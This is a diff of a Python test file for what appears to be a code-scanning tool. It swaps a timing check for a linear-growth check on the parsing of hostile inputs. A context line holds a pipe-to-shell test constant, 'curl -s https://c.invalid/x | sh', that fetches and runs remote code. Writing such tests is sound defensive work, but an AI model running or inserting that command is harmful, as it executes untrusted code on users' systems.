@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import datetime as dt
-import time
 
 import pytest
 
@@ -14,6 +13,7 @@ from fimci.model import Capability
 from fimci.policy import Policy
 from fimci.readers.code import foreign, started
 from fimci.snapshot import Entry, Recipe, Snapshot
+from tests import growth
 
 PIPED = "curl -s https://c.invalid/x | sh"
 
@@ -145,6 +145,5 @@ def test_a_language_without_a_reader_is_a_note_and_nothing_unread() -> None:
     ],
 )
 def test_hostile_texts_take_linear_time(path: str, text: str) -> None:
-    start = time.process_time()
-    list((started if path.endswith(("plist", "crontab")) else foreign).read(path, text.encode()))
-    assert time.process_time() - start < 5
+    read = (started if path.endswith(("plist", "crontab")) else foreign).read
+    growth.is_linear_in(lambda data: list(read(path, data)), text.encode())
